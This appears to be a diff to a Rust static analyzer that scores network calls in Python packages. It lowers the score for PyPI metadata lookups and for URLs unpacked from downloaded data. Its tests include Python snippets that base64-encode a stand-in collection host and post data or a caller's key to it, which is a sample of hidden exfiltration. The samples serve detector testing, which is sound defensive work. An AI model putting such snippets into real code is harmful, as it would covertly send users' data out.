@@ -456,6 +456,26 @@ fn sets_curl_body(checker: &Checker, call: &ExprCall) -> bool {
         })
 }
 
+/// Weight of a fetch of the package index's metadata (see [`is_index_metadata_url`]).
+const INDEX_METADATA_WEIGHT: f64 = 0.15;
+
+/// True for PyPI's JSON API or simple index (`https://pypi.org/pypi/setuptools/json`,
+/// `https://pypi.python.org/simple/x/`): what a project's release is, not a file to run.
+fn is_index_metadata_url(url: &str) -> bool {
+    let Some(rest) = url
+        .strip_prefix("https://")
+        .or_else(|| url.strip_prefix("http://"))
+    else {
+        return false;
+    };
+    let (host, path) = rest.split_once('/').unwrap_or((rest, ""));
+    matches!(
+        host.to_ascii_lowercase().as_str(),
+        "pypi.org" | "pypi.python.org" | "test.pypi.org"
+    ) && ((path.starts_with("pypi/") && path.trim_end_matches('/').ends_with("/json"))
+        || path.starts_with("simple/"))
+}
+
 /// True for a URL to this machine (`http://127.0.0.1:8000/`, `http://localhost/`).
 pub(super) fn is_loopback_url(url: &str) -> bool {
     let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
@@ -811,7 +831,18 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
                 .fold_lossy(a)
                 .is_some_and(|url| has_constant_host(&url))
     }) || matches!(op, NetOp::Send | NetOp::Dns);
-    let severity = call_severity(context, op, constant_target);
+    let asks_index = op == NetOp::Fetch
+        && target_arg
+            .and_then(|target| checker.fold(target))
+            .and_then(|url| url.as_text())
+            .is_some_and(|url| is_index_metadata_url(&url));
+    let severity = if asks_index {
+        // ez_setup.py asking PyPI's JSON API for setuptools' latest version: metadata from
+        // the index pip itself trusts, read, not run (a download that is run counts as such).
+        INDEX_METADATA_WEIGHT.min(call_severity(context, op, constant_target))
+    } else {
+        call_severity(context, op, constant_target)
+    };
     let verb = match op {
         NetOp::Fetch => "fetches with",
         NetOp::Send => "sends data with",
@@ -926,6 +957,11 @@ fn check_hidden_target(
     context: ExecContext,
     op: NetOp,
 ) {
+    // `resurl = baseurl + loc` with `loc` read out of a downloaded, zlib-compressed index:
+    // the decoding unpacked data; it hid no address.
+    if checker.holds_unpacked_data(target) {
+        return;
+    }
     let Some(decoder) = super::dynamic_exec::contains_decoding(checker, target) else {
         return;
     };
@@ -1344,6 +1380,19 @@ mod tests {
     }
 
     #[test]
+    fn asking_the_index_for_a_release_while_installing_is_metadata() {
+        let ez = "import json\nfrom urllib.request import urlopen\nmeta = json.load(urlopen('https://pypi.python.org/pypi/setuptools/json'))\n";
+        assert!(max_severity("p-1/setup.py", ez, "WH130") <= INDEX_METADATA_WEIGHT);
+        let other = ez.replace(
+            "pypi.python.org/pypi/setuptools/json",
+            "x.example.org/pypi/setuptools/json",
+        );
+        assert!(max_severity("p-1/setup.py", &other, "WH130") >= 0.5);
+        let file = ez.replace("pypi/setuptools/json", "packages/aa/bb/x.tar.gz");
+        assert!(max_severity("p-1/setup.py", &file, "WH130") >= 0.5);
+    }
+
+    #[test]
     fn uploads_to_a_hidden_address_weigh_more_than_fetches() {
         // base64 of "http://collect.example.invalid/upload"
         let post = "import base64, requests\ndef send(d):\n    requests.post(base64.b64decode('aHR0cDovL2NvbGxlY3QuZXhhbXBsZS5pbnZhbGlkL3VwbG9hZA==').decode(), data=d)\n";
@@ -1354,6 +1403,14 @@ mod tests {
         // The same fetch with the caller's data appended to the hidden URL sends that data.
         let leak = "import base64, requests\ndef check(key):\n    return requests.get(str(base64.b64decode(b'aHR0cDovL2NvbGxlY3QuZXhhbXBsZS5pbnZhbGlkLw=='), encoding='utf-8') + key)\n";
         assert!(max_severity("p/pkg/m.py", leak, "WH130") >= 0.7);
+        // A held name decoded from a constant is as hidden; one unpacked from what was read
+        // (a Sphinx inventory's zlib section) hides nothing.
+        let held = "import base64, requests\ndef send(d):\n    url = base64.b64decode('aHR0cDovL2NvbGxlY3QuZXhhbXBsZS5pbnZhbGlkL3VwbG9hZA==').decode()\n    requests.post(url, data=d)\n";
+        assert!(max_severity("p/pkg/m.py", held, "WH130") >= 0.7);
+        let unpacked = "import zlib, requests\ndef find(obj):\n    raw = requests.get('https://docs.example.org/objects.inv').content\n    for line in zlib.decompress(raw[100:]).decode().splitlines():\n        loc = line.split()[3]\n        url = 'https://docs.example.org/' + loc\n        requests.get(url + '?q=' + obj)\n";
+        assert!(max_severity("p/pkg/m.py", unpacked, "WH130") < 0.5);
+        let opened = "import webbrowser\nfrom zlib import decompress\ndef find(obj, opener):\n    base = 'https://docs.example.org/en/dev/'\n    with opener(base + 'objects.inv') as uf:\n        raw = uf.read()\n    text = decompress(raw[100:]).decode('utf-8')\n    for l in text.splitlines():\n        ls = l.split()\n        if ls[0] == obj:\n            webbrowser.open(base + ls[3])\n";
+        assert!(max_severity("p/pkg/m.py", opened, "WH130") < 0.5);
     }
 
     #[test]
